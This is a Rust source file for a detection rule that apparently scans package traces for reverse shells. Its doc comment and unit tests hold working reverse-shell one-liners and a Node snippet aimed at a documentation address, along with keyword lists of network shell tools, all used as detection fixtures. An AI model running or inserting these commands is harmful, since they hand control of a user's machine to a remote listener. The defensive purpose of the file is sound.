//! **What.** A shell is wired to a connection that the package opened: through `/dev/tcp`, `nc -e`, a named pipe, `socat`, an
//! interpreter's socket library, or in code by joining the streams of a socket and of a spawned shell.
//!
//! **Why.** It gives whoever listens at the other end the user's machine.
//!
//! **Example.** `const sh = spawn('/bin/sh'); const s = net.connect(4444, host); s.pipe(sh.stdin); sh.stdout.pipe(s)`
//!
//! **Benign look-alike.** A script waits for a port of the machine itself with `nc -z` or `/dev/tcp/localhost`; a tool starts
//! a shell with a fixed command and talks HTTP to its service.
//!
//! Since 0.1.0.

use super::commands::{SHELLS, base_name, from_program, inline_script, pipelines};
use super::hosts::{Reach, reach};
use super::{Confidence, Finding, Meta, Rule, Severity, View};
use crate::trace::{Event, Kind};
use std::collections::BTreeSet;

/// The rule.
#[derive(Debug)]
pub(super) struct Check;

impl Rule for Check {
    const META: Meta = Meta {
        id: "reverse-shell",
        title: "A shell is connected to a remote host",
        severity: Severity::Critical,
        confidence: Confidence::High,
        technique: "T1059",
        phases: &[],
    };

    fn check(view: &View<'_>) -> Vec<Finding> {
        let mut runs = BTreeSet::new();
        let mut found = Vec::new();
        for (text, event) in view.shell_texts() {
            if let Some(how) = wired(&text)
                && runs.insert(event.run)
            {
                let connects = view
                    .of(Kind::NetConnect)
                    .iter()
                    .filter(|connect| connect.run == event.run);
                let events: Vec<&Event> = [event].into_iter().chain(connects.copied()).collect();
                found.push(Self::META.finding(
                    view,
                    &events,
                    format!("a shell is connected to a remote host through {how}"),
                ));
            }
        }
        for &shell in view.of(Kind::ProcSpawn) {
            if let Some(finding) = joined(view, shell)
                && runs.insert(shell.run)
            {
                found.push(finding);
            }
        }
        found
    }
}

/// A shell without a script of its own, started by a process that holds a raw connection.
fn joined(view: &View<'_>, shell: &Event) -> Option<Finding> {
    if !is_interactive(&view.argv(shell)) {
        return None;
    }
    let socket = ["stdin", "stdout"]
        .iter()
        .filter_map(|stream| shell.detail.get(*stream))
        .any(|target| target.starts_with("socket"));
    let spoken: BTreeSet<String> = view
        .of(Kind::NetHttp)
        .iter()
        .map(|event| view.host(event))
        .collect();
    let raw = |event: &&&Event| {
        event.run == shell.run
            && (event.pid == shell.pid || socket)
            && view.reach(event) != Reach::Local
            && !spoken.contains(&view.host(event))
    };
    let connect = view.of(Kind::NetConnect).iter().find(raw)?;
    let talk = view.of_any(&[Kind::NetSend, Kind::NetRecv]);
    let talk = talk
        .into_iter()
        .filter(|event| event.pid == connect.pid && event.subject == connect.subject);
    let events: Vec<&Event> = [shell, connect].into_iter().chain(talk).collect();
    let detail = format!(
        "a shell is started beside a connection to {}",
        connect.subject
    );
    Some(Check::META.finding(view, &events, detail))
}

/// Whether a command line starts a shell that reads its commands from elsewhere.
fn is_interactive(argv: &[String]) -> bool {
    let name = argv.first().map(|path| base_name(path)).unwrap_or_default();
    let operand = argv
        .iter()
        .skip(1)
        .any(|argument| !argument.starts_with('-'));
    SHELLS.contains(&name.as_str()) && !operand && inline_script(argv).is_none()
}

/// By what a shell text wires a shell to a remote host, if it does.
fn wired(text: &str) -> Option<&'static str> {
    let lines = pipelines(text);
    let shell_in = |command: &[String]| {
        from_program(command)
            .first()
            .is_some_and(|word| SHELLS.contains(&base_name(word).as_str()))
    };
    for pipeline in &lines {
        let network = |command: &Vec<String>| {
            let name = from_program(command).first().map(|word| base_name(word));
            matches!(
                name.as_deref(),
                Some("nc" | "ncat" | "netcat" | "telnet" | "openssl")
            )
        };
        if pipeline.iter().any(network)
            && pipeline.iter().any(|command| shell_in(command))
            && !is_local(text)
        {
            return Some("a pipe");
        }
        for command in pipeline {
            let words = from_program(command);
            if let Some(how) = wired_command(words).filter(|_| !is_local(text)) {
                return Some(how);
            }
        }
    }
    let device = text.contains("/dev/tcp/") || text.contains("/dev/udp/");
    let reads_descriptor = lines.iter().flatten().any(|command| {
        shell_in(command)
            && command
                .iter()
                .any(|word| word.contains("<&") || word.contains("/dev/tcp/") || word == "-i")
    });
    (device && reads_descriptor && !is_local(text)).then_some("a network device file")
}

fn wired_command(words: &[String]) -> Option<&'static str> {
    let name = base_name(words.first()?);
    let any = |test: &dyn Fn(&str) -> bool| words.iter().skip(1).any(|word| test(word));
    match name.as_str() {
        "nc" | "ncat" | "netcat" => {
            let runs = any(&|word| {
                matches!(word, "-e" | "-c" | "--exec" | "--sh-exec")
                    || word.starts_with("-") && !word.starts_with("--") && word.ends_with('e')
            });
            runs.then_some("the network tool's own option")
        }
        "socat" => any(&|word| {
            let lower = word.to_lowercase();
            lower.starts_with("exec:") || lower.starts_with("system:")
        })
        .then_some("socat"),
        _ => {
            let script = inline_script(words)?.to_lowercase();
            let socket = [
                "socket",
                "tcpclient",
                "fsockopen",
                "net.connect",
                "createconnection",
            ];
            let shell = [
                "/bin/sh",
                "/bin/bash",
                "pty.spawn",
                "dup2",
                "cmd.exe",
                "iex",
                "'sh'",
                "\"sh\"",
            ];
            let holds = |list: &[&str]| list.iter().any(|word| script.contains(word));
            (holds(&socket) && holds(&shell)).then_some("an interpreter's sockets")
        }
    }
}

/// Whether the only remote end that a text names is the machine itself.
fn is_local(text: &str) -> bool {
    let after_device = text
        .split("/dev/tcp/")
        .nth(1)
        .and_then(|rest| rest.split('/').next());
    let host = after_device.map(str::to_lowercase);
    match host {
        Some(host) => reach(&crate::trace::Header::default(), &host) == Reach::Local,
        None => text.contains("127.0.0.1") || text.contains("localhost"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::TraceBuilder;

    #[test]
    fn every_spelling_is_understood() {
        for text in [
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "exec 5<>/dev/tcp/192.0.2.1/4444; sh <&5 >&5",
            "nc -e /bin/sh 192.0.2.1 4444",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
            "socat tcp:192.0.2.1:4444 exec:/bin/sh",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        ] {
            assert!(wired(text).is_some(), "{text}");
        }
    }

    #[test]
    fn waiting_for_a_port_and_plain_commands_are_quiet() {
        for text in [
            "nc -z localhost 5432",
            "bash -c 'echo > /dev/tcp/localhost/5432'",
            "curl -s https://x.example | grep ok",
            "sh -c 'node build.js'",
            "nc -zv db.example 5432",
        ] {
            assert_eq!(wired(text), None, "{text}");
        }
    }

    #[test]
    fn a_shell_beside_a_raw_connection_is_found() {
        let mut builder = TraceBuilder::new();
        builder.event(Kind::NetConnect, "192.0.2.9:4444");
        builder.at("index.js", 3).spawn(&["/bin/sh", "-i"]);
        let found = builder.check::<Check>();
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].at.as_ref().map(|at| at.line), Some(3));
    }

    #[test]
    fn a_shell_with_a_command_beside_http_is_quiet() {
        let mut builder = TraceBuilder::new();
        builder.event(Kind::NetConnect, "tool.example:443");
        builder.event(Kind::NetHttp, "GET https://tool.example/");
        builder.spawn(&["/bin/sh", "-c", "node-gyp rebuild"]);
        builder.spawn(&["/bin/sh"]);
        assert_eq!(builder.check::<Check>(), []);
    }
}
